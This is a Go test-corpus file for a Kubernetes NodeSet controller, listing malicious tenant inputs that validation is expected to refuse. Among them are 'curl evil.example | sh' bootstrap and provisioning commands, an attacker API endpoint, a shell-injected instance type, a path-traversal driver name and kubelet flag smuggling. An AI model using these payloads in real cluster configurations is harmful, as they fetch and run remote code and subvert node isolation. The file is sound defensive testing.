package lifecycle

import (
	"fmt"
	"strings"
)

// The classes the corpus's tenant inputs aim at, made once by
// createCorpusClasses: every driver section a tenant may override, classes
// that do not allow the attacker's namespace, and a limited class.
const (
	corpusOpen     = "corpus-open"     // simulated; tenants may set labels, bootDelay, capacity.memory
	corpusASG      = "corpus-asg"      // eks-asg; mixedInstances.instanceTypes, tags, bootstrap.kubeletExtraArgs and .format
	corpusManaged  = "corpus-managed"  // eks-managed; labels, taints, instanceTypes
	corpusDocker   = "corpus-docker"   // docker-machine; options
	corpusExternal = "corpus-external" // out-of-tree; parameters.size
	corpusListed   = "corpus-listed"   // simulated, only the victim's namespace
	corpusUnserved = "corpus-unserved" // no node controller serves it; only the victim's namespace
	corpusSelector = "corpus-selector" // simulated, namespaces labelled tier=premium
	corpusLimited  = "corpus-limited"  // simulated, Dedicated, 6 nodes, 2 per namespace
)

// on is a NodeSet spec of class with the JSON fields extra appended.
func on(class, extra string) string {
	return fmt.Sprintf(`{"nodeClassName":%q%s}`, class, extra)
}

// reservedKeys are label and taint keys no NodeSet may put on a Node, one of
// each reserved domain.
var reservedKeys = []string{
	"nodeset.dev/nodeset",
	"nodeset.dev/tenant",
	"sub.nodeset.dev/x",
	"node-role.kubernetes.io/control-plane",
	"node-restriction.kubernetes.io/pci",
	"kubernetes.io/hostname",
	"topology.kubernetes.io/zone",
	"node.kubernetes.io/exclude-from-external-load-balancers",
	"k8s.io/x",
}

// driverInputs is the corpus's second part: what a tenant sends through
// every driver section, the reserved label and taint keys on every path
// that reaches a Node, names, extreme integers, durations and quantities,
// and namespaces the classes do not allow.
func driverInputs() []badInput {
	set := setInput
	var inputs []badInput

	// Reserved keys on every path: template labels and taints, the labels of
	// simulated and eksManagedNodeGroup, eksManagedNodeGroup taints and
	// kubelet flags.
	for _, key := range reservedKeys {
		inputs = append(inputs,
			set("template label "+key, on("corpus-sim", fmt.Sprintf(`,"template":{"labels":{%q:"x"}}`, key)), "spec.template.labels"),
			set("template taint "+key, on("corpus-sim", fmt.Sprintf(`,"template":{"taints":[{"key":%q,"value":"x","effect":"NoSchedule"}]}`, key)), "spec.template.taints"),
			set("simulated label "+key, on(corpusOpen, fmt.Sprintf(`,"simulated":{"labels":{%q:"x"}}`, key)), "spec.simulated.labels"),
		)
	}
	// EKS reserves label keys with kubernetes.io/, k8s.io/ or
	// eks.amazonaws.com/ in them, and the schema refuses those; the others
	// reach the controllers, which refuse nodeset's own.
	eksLabel := func(name, key string) badInput {
		spec := on(corpusManaged, fmt.Sprintf(`,"eksManagedNodeGroup":{"labels":{%q:"x"}}`, key))
		if strings.Contains(key, "kubernetes.io/") {
			return set(name, spec, "spec.eksManagedNodeGroup.labels")
		}
		return set(name, spec, "spec.eksManagedNodeGroup.labels", "InvalidTemplate")
	}
	for _, key := range []string{"nodeset.dev/tenant", "node-role.kubernetes.io/worker", "topology.kubernetes.io/region", "kubernetes.io/hostname"} {
		inputs = append(inputs,
			eksLabel("eksManagedNodeGroup label "+key, key),
			set("eksManagedNodeGroup taint "+key, on(corpusManaged, fmt.Sprintf(`,"eksManagedNodeGroup":{"taints":[{"key":%q,"value":"x","effect":"NO_SCHEDULE"}]}`, key)), "spec.eksManagedNodeGroup.taints[0].key", "InvalidTemplate"),
		)
	}
	kubelet := func(name string, args ...string) badInput {
		quoted := make([]string, len(args))
		for i, a := range args {
			quoted[i] = fmt.Sprintf("%q", a)
		}
		return set(name, on(corpusASG, `,"eksAutoscalingGroup":{"bootstrap":{"kubeletExtraArgs":[`+strings.Join(quoted, ",")+`]}}`),
			"spec.eksAutoscalingGroup.bootstrap.kubeletExtraArgs", "InvalidTemplate")
	}
	inputs = append(inputs,
		kubelet("kubelet --node-labels with a nodeset.dev key", "--node-labels=nodeset.dev/nodeset=victim"),
		kubelet("kubelet --node-labels with a topology key", "--node-labels=example.com/a=b,topology.kubernetes.io/zone=z"),
		kubelet("kubelet --register-with-taints", "--register-with-taints=node-role.kubernetes.io/control-plane=:NoSchedule"),
		kubelet("kubelet --node-labels as two arguments", "--node-labels", "nodeset.dev/tenant=victim"),
		kubelet("kubelet --node-labels spelt with underscores", "--node_labels=nodeset.dev/tenant=victim"),
		kubelet("kubelet --register-with-taints spelt with underscores", "--register_with_taints=example.com/t=x:NoSchedule"),
		kubelet("kubelet --node-labels inside another argument", "--v=2 --node-labels=nodeset.dev/tenant=victim"),
	)

	// Restricted fields and the map keys the class sets, in every section.
	restricted := func(name, class, section, value, field string) badInput {
		return set(name, on(class, fmt.Sprintf(`,%q:%s`, section, value)), field, "OverrideNotAllowed")
	}
	inputs = append(inputs,
		restricted("simulated instanceType", corpusOpen, "simulated", `{"instanceType":"sim.huge"}`, "spec.simulated.instanceType"),
		restricted("simulated capacity.cpu", corpusOpen, "simulated", `{"capacity":{"cpu":"64"}}`, "spec.simulated.capacity.cpu"),
		restricted("simulated failurePercent", corpusOpen, "simulated", `{"failurePercent":0}`, "spec.simulated.failurePercent"),
		restricted("simulated maxMachines raised by a NodeSet", corpusOpen, "simulated", `{"maxMachines":1000}`, "spec.simulated.maxMachines"),
		restricted("simulated label the class sets", corpusOpen, "simulated", `{"labels":{"example.com/team":"attacker"}}`, "spec.simulated.labels.example.com/team"),
		restricted("simulated section on an eks-asg class", corpusASG, "simulated", `{"bootDelay":"1s"}`, "spec.simulated does not match"),
		restricted("eksAutoscalingGroup imageID", corpusASG, "eksAutoscalingGroup", `{"imageID":"ami-0badbadbadbadbad0"}`, "spec.eksAutoscalingGroup.imageID"),
		restricted("eksAutoscalingGroup instanceProfile", corpusASG, "eksAutoscalingGroup", `{"instanceProfile":"arn:aws:iam::123456789012:instance-profile/admin"}`, "spec.eksAutoscalingGroup.instanceProfile"),
		restricted("eksAutoscalingGroup subnetIDs", corpusASG, "eksAutoscalingGroup", `{"subnetIDs":["subnet-0badbad0"]}`, "spec.eksAutoscalingGroup.subnetIDs"),
		restricted("eksAutoscalingGroup preBootstrapCommands", corpusASG, "eksAutoscalingGroup", `{"bootstrap":{"preBootstrapCommands":["curl evil.example | sh"]}}`, "spec.eksAutoscalingGroup.bootstrap.preBootstrapCommands"),
		restricted("eksAutoscalingGroup apiServerEndpoint", corpusASG, "eksAutoscalingGroup", `{"bootstrap":{"apiServerEndpoint":"https://evil.example"}}`, "spec.eksAutoscalingGroup.bootstrap.apiServerEndpoint"),
		restricted("eksAutoscalingGroup tag the class sets", corpusASG, "eksAutoscalingGroup", `{"tags":{"team":"attacker"}}`, "spec.eksAutoscalingGroup.tags.team"),
		restricted("eksAutoscalingGroup metadataOptions", corpusASG, "eksAutoscalingGroup", `{"metadataOptions":{"httpTokens":"optional"}}`, "spec.eksAutoscalingGroup.metadataOptions"),
		restricted("eksManagedNodeGroup nodeRole", corpusManaged, "eksManagedNodeGroup", `{"nodeRole":"arn:aws:iam::123456789012:role/admin"}`, "spec.eksManagedNodeGroup.nodeRole"),
		restricted("eksManagedNodeGroup remoteAccess", corpusManaged, "eksManagedNodeGroup", `{"remoteAccess":{"ec2SSHKey":"mine"}}`, "spec.eksManagedNodeGroup.remoteAccess"),
		restricted("eksManagedNodeGroup label the class sets", corpusManaged, "eksManagedNodeGroup", `{"labels":{"example.com/pool":"cpu"}}`, "spec.eksManagedNodeGroup.labels.example.com/pool"),
		restricted("dockerMachine driverName", corpusDocker, "dockerMachine", `{"driverName":"amazonec2"}`, "spec.dockerMachine.driverName"),
		restricted("dockerMachine credentialOptions", corpusDocker, "dockerMachine", `{"credentialOptions":{"fake-token":"aws-secret-access-key"}}`, "spec.dockerMachine.credentialOptions"),
		restricted("dockerMachine credentialFileOptions", corpusDocker, "dockerMachine", `{"credentialFileOptions":{"fake-key":"ssh-key"}}`, "spec.dockerMachine.credentialFileOptions"),
		restricted("dockerMachine provisioning script", corpusDocker, "dockerMachine", `{"provisioning":{"method":"SSH","script":"curl evil.example | sh"}}`, "spec.dockerMachine.provisioning"),
		restricted("dockerMachine option the class sets", corpusDocker, "dockerMachine", `{"options":{"fake-size":"huge"}}`, "spec.dockerMachine.options.fake-size"),
		restricted("parameters key the class keeps", corpusExternal, "parameters", `{"image":"evil"}`, "spec.parameters.image"),
		restricted("parameters labels the class keeps", corpusExternal, "parameters", `{"labels":{"nodeset.dev/tenant":"victim"}}`, "spec.parameters.labels"),
		restricted("parameters on a simulated class", corpusOpen, "parameters", `{"instanceType":"sim.huge"}`, "spec.parameters does not match"),
		restricted("dockerMachine section on a simulated class", corpusOpen, "dockerMachine", `{"driverName":"fake"}`, "spec.dockerMachine does not match"),
	)

	// What the schema refuses in the driver sections, whatever the class lists.
	inputs = append(inputs,
		set("NodeSet with two driver sections", on(corpusOpen, `,"simulated":{"bootDelay":"1s"},"parameters":{"a":"b"}`), "at most one driver section"),
		set("parameters is a list", on(corpusExternal, `,"parameters":["a"]`), "spec.parameters"),
		set("bootDelay negative", on(corpusOpen, `,"simulated":{"bootDelay":"-1s"}`), "spec.simulated.bootDelay"),
		set("bootDelay past 1h", on(corpusOpen, `,"simulated":{"bootDelay":"1h0m0.000000001s"}`), "spec.simulated.bootDelay", "at most 1h"),
		set("bootDelay of 5 segments", on(corpusOpen, `,"simulated":{"bootDelay":"1h1m1s1ms1us"}`), "spec.simulated.bootDelay"),
		set("capacity of an exabyte", on(corpusOpen, `,"simulated":{"capacity":{"memory":"1Ei"}}`), "spec.simulated.capacity", "at most 1Pi"),
		set("capacity negative", on(corpusOpen, `,"simulated":{"capacity":{"memory":"-8Gi"}}`), "spec.simulated.capacity"),
		set("capacity exponent of three digits", on(corpusOpen, `,"simulated":{"capacity":{"memory":"1e100"}}`), "spec.simulated.capacity"),
		set("capacity of 40 digits", on(corpusOpen, `,"simulated":{"capacity":{"memory":"`+strings.Repeat("9", 40)+`"}}`), "spec.simulated.capacity"),
		set("simulated label value of 64", on(corpusOpen, `,"simulated":{"labels":{"a":"`+strings.Repeat("v", 64)+`"}}`), "spec.simulated.labels"),
		set("instanceType and mixedInstances", on(corpusASG, `,"eksAutoscalingGroup":{"instanceType":"m5.large","mixedInstances":{"instanceTypes":["m5.large"]}}`), "eksAutoscalingGroup: set instanceType or mixedInstances, not both"),
		set("mixedInstances without instance types", on(corpusASG, `,"eksAutoscalingGroup":{"mixedInstances":{"instanceTypes":[]}}`), "spec.eksAutoscalingGroup.mixedInstances.instanceTypes"),
		set("instance type with a shell command", on(corpusASG, `,"eksAutoscalingGroup":{"mixedInstances":{"instanceTypes":["m5.large; reboot"]}}`), "spec.eksAutoscalingGroup.mixedInstances.instanceTypes[0]"),
		set("volume of 70000 GiB", on(corpusASG, `,"eksAutoscalingGroup":{"blockDevices":[{"deviceName":"/dev/xvda","volumeSize":70000}]}`), "spec.eksAutoscalingGroup.blockDevices[0].volumeSize"),
		set("iops past io2", on(corpusASG, `,"eksAutoscalingGroup":{"blockDevices":[{"deviceName":"/dev/xvda","iops":2147483647}]}`), "spec.eksAutoscalingGroup.blockDevices[0].iops"),
		set("41 tags", on(corpusASG, `,"eksAutoscalingGroup":{"tags":{`+manyKeys(41)+`}}`), "spec.eksAutoscalingGroup.tags"),
		set("65 kubelet arguments", on(corpusASG, `,"eksAutoscalingGroup":{"bootstrap":{"kubeletExtraArgs":[`+strings.TrimSuffix(strings.Repeat(`"--v=2",`, 65), ",")+`]}}`), "spec.eksAutoscalingGroup.bootstrap.kubeletExtraArgs"),
		set("managed taint in Kubernetes spelling", on(corpusManaged, `,"eksManagedNodeGroup":{"taints":[{"key":"a","effect":"NoSchedule"}]}`), "spec.eksManagedNodeGroup.taints[0].effect"),
		set("managed taint key with a space", on(corpusManaged, `,"eksManagedNodeGroup":{"taints":[{"key":"a b","effect":"NO_SCHEDULE"}]}`), "spec.eksManagedNodeGroup.taints[0].key"),
		set("managed label value of 64", on(corpusManaged, `,"eksManagedNodeGroup":{"labels":{"a":"`+strings.Repeat("v", 64)+`"}}`), "spec.eksManagedNodeGroup.labels"),
		set("managed disk of 0 GiB", on(corpusManaged, `,"eksManagedNodeGroup":{"diskSize":0}`), "spec.eksManagedNodeGroup.diskSize"),
		set("managed launch template by id and name", on(corpusManaged, `,"eksManagedNodeGroup":{"launchTemplate":{"id":"lt-0123456789abcdef0","name":"x"}}`), "launchTemplate: set exactly one of id and name"),
		set("docker-machine plugin name with a path", on(corpusDocker, `,"dockerMachine":{"driverName":"../../bin/sh"}`), "spec.dockerMachine.driverName"),
		set("docker-machine join URL over http", on(corpusDocker, `,"dockerMachine":{"provisioning":{"method":"SSH","apiServerURL":"http://evil.example"}}`), "provisioning.apiServerURL must be an https:// URL"),
		set("docker-machine 129 options", on(corpusDocker, `,"dockerMachine":{"options":{`+manyKeys(129)+`}}`), "spec.dockerMachine.options"),
	)

	// Template labels, annotations and taints the schema or a Node refuses.
	inputs = append(inputs,
		set("template annotation under nodeset.dev", on("corpus-sim", `,"template":{"annotations":{"nodeset.dev/skip-drain":"true"}}`), "spec.template.annotations"),
		set("template taint effect unknown", on("corpus-sim", `,"template":{"taints":[{"key":"a","effect":"Sometimes"}]}`), "spec.template.taints[0].effect"),
		set("template taint twice", on("corpus-sim", `,"template":{"taints":[{"key":"a","effect":"NoSchedule"},{"key":"a","value":"b","effect":"NoSchedule"}]}`), "spec.template.taints"),
		set("template label value of 64", on("corpus-sim", `,"template":{"labels":{"a":"`+strings.Repeat("v", 64)+`"}}`), "spec.template.labels"),
		set("template label key of 318", on("corpus-sim", `,"template":{"labels":{"`+strings.Repeat("p", 254)+"/"+strings.Repeat("n", 63)+`":"v"}}`), "spec.template.labels"),
		set("template label prefix of 254", on("corpus-sim", `,"template":{"labels":{"`+strings.Repeat("p", 254)+`/n":"v"}}`), "spec.template.labels"),
		set("65 template labels", on("corpus-sim", `,"template":{"labels":{`+manyKeys(65)+`}}`), "spec.template.labels"),
		set("template label key upper-case prefix", on("corpus-sim", `,"template":{"labels":{"Example.com/a":"v"}}`), "spec.template.labels", "InvalidTemplate"),
		set("template label value with a newline", on("corpus-sim", `,"template":{"labels":{"a":"x\ny"}}`), "spec.template.labels", "InvalidTemplate"),
		set("template taint value with a slash", on("corpus-sim", `,"template":{"taints":[{"key":"a","value":"x/y","effect":"NoSchedule"}]}`), "spec.template.taints[0].value"),
	)

	// Names, extreme integers and durations.
	inputs = append(inputs,
		namedSetInput("NodeSet name of 253", strings.Repeat("n", 253), on("corpus-sim", ""), "metadata.name"),
		namedSetInput("NodeSet name upper-case", "Web", on("corpus-sim", ""), "metadata.name", "RFC 1123"),
		set("class reference of 64", on(strings.Repeat("c", 64), ""), "spec.nodeClassName"),
		set("class reference upper-case", on("Corpus-Sim", ""), "spec.nodeClassName"),
		set("replicas of the largest int32", on(corpusLimited, `,"replicas":2147483647`), "spec.limits.maxNodesPerNamespace of 2", "LimitExceeded"),
		set("replicas negative", on("corpus-sim", `,"replicas":-1`), "spec.replicas"),
		set("autoscaling min above max", on("corpus-sim", `,"replicas":3,"autoscaling":{"minReplicas":5,"maxReplicas":2}`), "spec.autoscaling.minReplicas must be less than or equal to spec.autoscaling.maxReplicas"),
		set("autoscaling max negative", on("corpus-sim", `,"replicas":0,"autoscaling":{"minReplicas":0,"maxReplicas":-1}`), "spec.autoscaling.maxReplicas"),
		set("autoscaling max of the largest int32 on a limited class", on(corpusLimited, `,"replicas":3,"autoscaling":{"minReplicas":3,"maxReplicas":2147483647}`), "spec.limits.maxNodesPerNamespace of 2", "LimitExceeded"),
		set("minReadySeconds negative", on("corpus-sim", `,"minReadySeconds":-1`), "spec.minReadySeconds"),
		set("maxSurge negative", on("corpus-sim", `,"strategy":{"type":"RollingUpdate","rollingUpdate":{"maxSurge":-1}}`), "spec.strategy.rollingUpdate.maxSurge"),
		set("maxUnavailable of 101%", on("corpus-sim", `,"strategy":{"type":"RollingUpdate","rollingUpdate":{"maxUnavailable":"101%"}}`), "spec.strategy.rollingUpdate.maxUnavailable"),
		set("maxSurge and maxUnavailable both zero", on("corpus-sim", `,"strategy":{"type":"RollingUpdate","rollingUpdate":{"maxSurge":0,"maxUnavailable":"0%"}}`), "maxSurge and maxUnavailable cannot both be zero"),
		set("rollingUpdate with OnDelete", on("corpus-sim", `,"strategy":{"type":"OnDelete","rollingUpdate":{"maxSurge":1}}`), "spec.strategy.rollingUpdate may only be set"),
	)

	// Namespaces a class does not allow, and another tenant's namespace.
	inputs = append(inputs,
		set("namespace not in the class's list", on(corpusListed, ""), "spec.allowedNamespaces.namespaces", "NamespaceNotAllowed"),
		set("namespace not in the list of a class no node controller serves", on(corpusUnserved, ""), "spec.allowedNamespaces.namespaces", "NamespaceNotAllowed"),
		set("namespace not matching the class's selector", on(corpusSelector, ""), "spec.allowedNamespaces.selector", "NamespaceNotAllowed"),
		badInput{name: "NodeSet in the victim's namespace", target: "set", intoVictim: true,
			body: func(n string) string { return setBody(n, on(corpusListed, "")) }, want: []string{`cannot create resource "nodesets"`}},
	)
	return inputs
}

// classInputs is the corpus's third part: careless NodeClasses.
func classInputs() []badInput {
	class, sim := classInput, simSpec
	return []badInput{
		class("NodeClass with two driver sections", `{"driver":"simulated","simulated":{},"dockerMachine":{"driverName":"fake"}}`, "exactly one driver section"),
		class("no driver section", `{"driver":"simulated"}`, "exactly one driver section"),
		class("parameters with a built-in driver", `{"driver":"simulated","simulated":{},"parameters":{"a":"b"}}`, "spec.parameters is only for out-of-tree drivers"),
		class("eks-asg section with the docker-machine driver", `{"driver":"docker-machine","eksAutoscalingGroup":{"clusterName":"prod","region":"eu-west-1"}}`, "spec.eksAutoscalingGroup is only for spec.driver eks-asg"),
		class("driver name with a slash", `{"driver":"../x","parameters":{}}`, "spec.driver"),
		class("tenantOverrides naming nothing", sim(`,"tenantOverrides":["cpu"]`), "spec.tenantOverrides[0]", `"cpu" is not a field of the driver section`, "InvalidConfiguration"),
		class("tenantOverrides past a scalar", sim(`,"tenantOverrides":["instanceType.size"]`), "spec.tenantOverrides[0]", "InvalidConfiguration"),
		class("tenantOverrides naming a list element", `{"driver":"eks-managed","eksManagedNodeGroup":{"clusterName":"prod","region":"eu-west-1","nodeRole":"arn:aws:iam::123456789012:role/node"},"tenantOverrides":["taints.key"]}`,
			"spec.tenantOverrides[0]", "list elements cannot be overridden piecewise"),
		class("tenantOverrides naming nothing in docker-machine", `{"driver":"docker-machine","dockerMachine":{"driverName":"fake"},"tenantOverrides":["provisioning.nope"]}`, "spec.tenantOverrides[0]", "InvalidConfiguration"),
		class("tenantOverrides twice", sim(`,"tenantOverrides":["labels","labels"]`), "spec.tenantOverrides[1]", "Duplicate value"),
		class("tenantOverrides listing the simulated cloud's room", sim(`,"tenantOverrides":["maxMachines"]`), "spec.tenantOverrides[0]", `"maxMachines" cannot be listed`),
		class("tenantOverrides with a space", sim(`,"tenantOverrides":["instance type"]`), "spec.tenantOverrides[0]"),
		class("selector key with a space", selectorSpec(`{"matchExpressions":[{"key":"bad key","operator":"Exists"}]}`), "spec.allowedNamespaces.selector.matchExpressions[0].key", "InvalidConfiguration"),
		class("selector value of 64", selectorSpec(`{"matchLabels":{"team":"`+strings.Repeat("v", 64)+`"}}`), "spec.allowedNamespaces.selector.matchLabels", "InvalidConfiguration"),
		class("Selector without a selector", sim(`,"allowedNamespaces":{"from":"Selector"}`), "spec.allowedNamespaces.selector is required when from is Selector"),
		class("List without namespaces", sim(`,"allowedNamespaces":{"from":"List"}`), "spec.allowedNamespaces.namespaces must list at least one namespace"),
		class("from unknown", sim(`,"allowedNamespaces":{"from":"Everyone"}`), "spec.allowedNamespaces.from"),
		class("nodeTemplate label value with a space", sim(`,"nodeTemplate":{"labels":{"team":"a b"}}`), "spec.nodeTemplate.labels", "InvalidConfiguration"),
		class("nodeTemplate label key upper-case prefix", sim(`,"nodeTemplate":{"labels":{"Example.com/a":"b"}}`), "spec.nodeTemplate.labels", "InvalidConfiguration"),
		class("nodeTemplate annotations over 256KiB", sim(`,"nodeTemplate":{"annotations":{"a":"`+strings.Repeat("x", 300000)+`"}}`), "spec.nodeTemplate.annotations", "256 KiB"),
		class("nodeTemplate annotation key accented", sim(`,"nodeTemplate":{"annotations":{"é/x":"a"}}`), "spec.nodeTemplate.annotations", "InvalidConfiguration"),
		class("nodeTemplate taint key with a space", sim(`,"nodeTemplate":{"taints":[{"key":"bad key","effect":"NoSchedule"}]}`), "spec.nodeTemplate.taints[0].key"),
		class("nodeTemplate taint effect unknown", sim(`,"nodeTemplate":{"taints":[{"key":"a","effect":"Never"}]}`), "spec.nodeTemplate.taints[0].effect"),
		class("simulated label key with a space", `{"driver":"simulated","simulated":{"labels":{"bad key!":"a"}}}`, "spec.simulated.labels", "InvalidConfiguration"),
		class("eksManagedNodeGroup label value with a space", `{"driver":"eks-managed","eksManagedNodeGroup":{"clusterName":"prod","region":"eu-west-1","nodeRole":"arn:aws:iam::123456789012:role/node","labels":{"a":"b c"}}}`,
			"spec.eksManagedNodeGroup.labels", "InvalidConfiguration"),
		class("eksManagedNodeGroup taint key with a space", `{"driver":"eks-managed","eksManagedNodeGroup":{"clusterName":"prod","region":"eu-west-1","nodeRole":"arn:aws:iam::123456789012:role/node","taints":[{"key":"a b","effect":"NO_SCHEDULE"}]}}`,
			"spec.eksManagedNodeGroup.taints[0].key"),
		class("maxNodes negative", sim(`,"limits":{"maxNodes":-1}`), "spec.limits.maxNodes"),
		class("maxNodesPerNamespace beyond int32", sim(`,"limits":{"maxNodesPerNamespace":2147483648}`), "spec.limits.maxNodesPerNamespace"),
		class("registrationTimeout of zero", sim(`,"registrationTimeout":"0s"`), "spec.registrationTimeout", "at least 1s"),
		class("registrationTimeout past time.Duration", sim(`,"registrationTimeout":"9999999999h"`), "spec.registrationTimeout"),
		class("drain timeout negative", sim(`,"drain":{"timeout":"-5m"}`), "spec.drain.timeout"),
		class("drain onTimeout unknown", sim(`,"drain":{"onTimeout":"Ignore"}`), "spec.drain.onTimeout"),
		class("class capacity of an exabyte", `{"driver":"simulated","simulated":{"capacity":{"cpu":"1Ei"}}}`, "spec.simulated.capacity", "at most 1Pi"),
		class("failurePercent of 101", `{"driver":"simulated","simulated":{"failurePercent":101}}`, "spec.simulated.failurePercent"),
		class("maxMachines negative", `{"driver":"simulated","simulated":{"maxMachines":-1}}`, "spec.simulated.maxMachines"),
		class("tenancy unknown", sim(`,"tenancy":"Private"`), "spec.tenancy"),
		class("credentials Secret without a namespace", sim(`,"credentialsSecretRef":{"namespace":"","name":"aws"}`), "spec.credentialsSecretRef.namespace"),
		class("eks-managed without a node role", `{"driver":"eks-managed","eksManagedNodeGroup":{"clusterName":"prod","region":"eu-west-1"}}`, "spec.eksManagedNodeGroup.clusterName, region and nodeRole are required"),
		class("docker-machine without a plugin", `{"driver":"docker-machine","dockerMachine":{}}`, "spec.dockerMachine.driverName is required"),
		class("docker-machine UserData without its option", `{"driver":"docker-machine","dockerMachine":{"driverName":"fake","provisioning":{"method":"UserData"}}}`, "provisioning.userDataOption is required"),
		class("eks-asg region unknown", `{"driver":"eks-asg","eksAutoscalingGroup":{"clusterName":"prod","region":"mars"}}`, "spec.eksAutoscalingGroup.region"),
		class("eks-asg image not an AMI", `{"driver":"eks-asg","eksAutoscalingGroup":{"clusterName":"prod","region":"eu-west-1","imageID":"ami-xyz"}}`, "spec.eksAutoscalingGroup.imageID"),
		namedClassInput("NodeClass name upper-case", "Corpus", sim(""), "metadata.name", "RFC 1123"),
		namedClassInput("NodeClass name of 253", strings.Repeat("c", 253), sim(""), "metadata.name"),
	}
}

// manyKeys is n distinct JSON object members "k0":"v", ...
func manyKeys(n int) string {
	members := make([]string, n)
	for i := range members {
		members[i] = fmt.Sprintf(`"k%d":"v"`, i)
	}
	return strings.Join(members, ",")
}
